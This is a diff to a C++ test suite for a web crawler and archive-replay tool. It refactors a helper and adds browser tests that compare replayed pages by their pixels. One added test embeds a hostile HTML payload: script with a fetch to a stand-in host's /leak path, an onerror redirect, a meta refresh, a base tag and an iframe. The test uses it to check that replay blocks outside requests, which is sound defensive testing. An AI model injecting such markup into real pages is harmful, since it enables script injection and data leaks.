@@ -12,6 +12,7 @@
 #include <thread>
 
 #include "process.h"
+#include "replay_testing.h"
 #include "replay_web_page_testing.h"
 #include "small_site_testing.h"
 
@@ -19,35 +20,6 @@ namespace bowerbird {
 namespace {
 
 using testing::HasSubstr;
-
-// The program, serving until this object dies.
-class RunningReplay {
- public:
-  explicit RunningReplay(const std::string& input, const std::string& more = "") {
-    const std::string command =
-        fmt::format("timeout 300 '{}' replay '{}' --listen 127.0.0.1:0 --json {} > '{}' 2>&1 & echo $!",
-                    BOWERBIRD_BINARY, input, more, folder_ / "said");
-    pid_ = std::stoi(shell_output(command));
-    for (int i = 0; i < 200 && !ready_.is_object(); ++i) {
-      std::this_thread::sleep_for(std::chrono::milliseconds(50));
-      const std::string said = read_text(folder_ / "said");
-      if (said.ends_with('\n')) ready_ = nlohmann::json::parse(said, nullptr, false);
-    }
-    EXPECT_TRUE(ready_.is_object()) << read_text(folder_ / "said");
-  }
-  ~RunningReplay() { ::kill(pid_, SIGTERM); }
-  RunningReplay(const RunningReplay&) = delete;
-  RunningReplay& operator=(const RunningReplay&) = delete;
-
-  std::string url() const { return ready_.value("url", ""); }
-  std::string pages() const { return ready_.value("pages", ""); }
-  std::size_t count() const { return ready_.value("count", std::size_t{0}); }
-
- private:
-  TemporaryFolder folder_;
-  int pid_ = 0;
-  nlohmann::json ready_;
-};
 
 // One response, head and all.
 std::string http_get(const std::string& base, const std::string& target) {
@@ -187,19 +159,16 @@ TEST(ExportSite, IsThereAsAWholeOrNotAtAll) {
   EXPECT_EQ(run_bowerbird({"export", site.crawl(), "--as", "site"}).code, 2);
 }
 
-TEST(ReplayInABrowser, LooksLikeTheLivePageFull) {
-  if (std::system("command -v chromium > /dev/null 2>&1 && node --version > /dev/null 2>&1") != 0)
-    GTEST_SKIP() << "no chromium, or no node";
-  const ReplayedSite site;
-  const std::string folder = site.folder() / "pages";
-  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "wacz", "-o", site.folder() / "x.wacz"}).code, 0);
-  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "site", "-o", folder}).code, 0);
-  const RunningReplay replay(site.crawl());
+// Each URL live, by `bowerbird replay`, as a folder and, where it can be had, by ReplayWeb.page: at most 1 %
+// of the pixels differ, and no request leaves the archive.
+void expect_looks_alike(const std::string& pages, const std::string& folder, const std::string& wacz,
+                        const std::vector<std::string>& urls) {
   const std::string package = replay_web_page_folder(BOWERBIRD_BINARY);
-  const std::string out = shell_output(fmt::format(
-      "timeout 280 node '{}/tests/replay_browser.mjs' chromium '{}' '{}' '{}' '{}' '{}' '{}' 2>&1",
-      BOWERBIRD_SOURCE_DIR, replay.pages(), folder, package.empty() ? "-" : package, site.folder() / "x.wacz",
-      site.url("/d/"), site.url("/d/second?x=1&y=2")));
+  std::string command =
+      fmt::format("timeout 280 node '{}/tests/replay_browser.mjs' chromium '{}' '{}' '{}' '{}'",
+                  BOWERBIRD_SOURCE_DIR, pages, folder, package.empty() ? "-" : package, wacz);
+  for (const std::string& url : urls) command += " '" + url + "'";
+  const std::string out = shell_output(command + " 2>&1");
   std::size_t compared = 0;
   for (std::size_t at = 0; at < out.size(); at = out.find('\n', at) + 1) {
     const auto line = nlohmann::json::parse(out.substr(at, out.find('\n', at) - at), nullptr, false);
@@ -209,7 +178,82 @@ TEST(ReplayInABrowser, LooksLikeTheLivePageFull) {
     EXPECT_EQ(line["blank"], false) << line.dump();
     ++compared;
   }
-  EXPECT_EQ(compared, package.empty() ? 4u : 6u) << out;
+  EXPECT_EQ(compared, urls.size() * (package.empty() ? 2 : 3)) << out;
+}
+
+TEST(ReplayInABrowser, LooksLikeTheLivePageFull) {
+  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
+  const ReplayedSite site;
+  const std::string folder = site.folder() / "pages";
+  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "wacz", "-o", site.folder() / "x.wacz"}).code, 0);
+  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "site", "-o", folder}).code, 0);
+  const RunningReplay replay(site.crawl());
+  expect_looks_alike(replay.pages(), folder, site.folder() / "x.wacz",
+                     {site.url("/d/"), site.url("/d/second?x=1&y=2")});
+}
+
+// Documentation as it is, with its styles and images: that of cairo (tools/packages.txt).
+TEST(ReplayInABrowser, ShowsRealDocumentationAsItIsFull) {
+  const std::string source = "/usr/share/gtk-doc/html/cairo";
+  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
+  if (!std::filesystem::exists(source)) GTEST_SKIP() << "libcairo2-doc is not installed";
+  SmallSite::Files files;
+  const std::map<std::string, std::string> types = {
+      {".html", "text/html"}, {".css", "text/css"}, {".png", "image/png"}};
+  for (const auto& entry : std::filesystem::directory_iterator(source)) {
+    const auto type = types.find(entry.path().extension().string());
+    if (type == types.end()) continue;
+    files["/cairo/" + entry.path().filename().string()] = {type->second, read_text(entry.path().string())};
+  }
+  const SmallSite site(files);
+  const TemporaryFolder folder;
+  const Finished crawled =
+      run_bowerbird({"crawl", site.url("/cairo/index.html"), "--out", folder / "crawl", "--archive",
+                     "--scope", "prefix", "--allow-net", "127.0.0.0/8", "--delay", "0.003", "--contact",
+                     "tests@bowerbird.example", "--no-durable", "--no-report"});
+  ASSERT_EQ(crawled.code, 0) << crawled.err;
+  const auto status = json_of(run_bowerbird({"status", folder / "crawl", "--json"}));
+  EXPECT_GT(status["pages"], 40);
+  EXPECT_EQ(status["pages"], status["pages_complete"]);
+  ASSERT_EQ(run_bowerbird({"export", folder / "crawl", "--as", "wacz", "-o", folder / "x.wacz"}).code, 0);
+  ASSERT_EQ(run_bowerbird({"export", folder / "crawl", "--as", "site", "-o", folder / "pages"}).code, 0);
+  const RunningReplay replay(folder / "x.wacz");
+  expect_looks_alike(replay.pages(), folder / "pages", folder / "x.wacz",
+                     {site.url("/cairo/index.html"), site.url("/cairo/cairo-Paths.html")});
+}
+
+// Script in titles, pages that want to load from outside: the list and the pages do nothing of it.
+TEST(ReplayInABrowser, HostileCapturesAreHarmlessFull) {
+  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
+  SmallSite::Files files;
+  const std::string attack =
+      "<script>document.title='owned';fetch('http://198.51.100.7/leak')</script><img "
+      "src=http://198.51.100.7/x.png onerror=\"location='http://198.51.100.7/moved'\"><link rel=stylesheet "
+      "href=http://198.51.100.7/s.css><meta http-equiv=refresh "
+      "content='0;url=http://198.51.100.7/away'><base "
+      "href=http://198.51.100.7/><iframe src=//198.51.100.7/f></iframe>";
+  files["/h/"] = {"text/html",
+                  "<title>&lt;script&gt;document.title='owned';fetch('http://198.51.100.7/')&lt;/script&gt;"
+                  "&lt;img src=x onerror=fetch('http://198.51.100.7/')></title>" +
+                      attack + "<p>harmless"};
+  const SmallSite site(files);
+  const TemporaryFolder folder;
+  ASSERT_EQ(run_bowerbird({"crawl", site.url("/h/"), "--out", folder / "crawl", "--scope", "prefix",
+                           "--allow-net", "127.0.0.0/8", "--delay", "0", "--contact",
+                           "tests@bowerbird.example", "--no-durable", "--no-report"})
+                .code,
+            0);
+  for (const char* more : {"", "--scripts"}) {
+    const RunningReplay replay(folder / "crawl", more);
+    const std::string out = shell_output(
+        fmt::format("timeout 100 node '{}/tests/hostile_capture.mjs' chromium '{}' '{}web/{}' 2>&1",
+                    BOWERBIRD_SOURCE_DIR, replay.url(), replay.pages(), site.url("/h/")));
+    const auto report = nlohmann::json::parse(out, nullptr, false);
+    ASSERT_TRUE(report.is_object()) << out;
+    EXPECT_EQ(report["outside"], nlohmann::json::array()) << out;
+    EXPECT_EQ(report["list_owned"], false) << out;
+    EXPECT_EQ(report["rows"], 1) << out;
+  }
 }
 
 }  // namespace
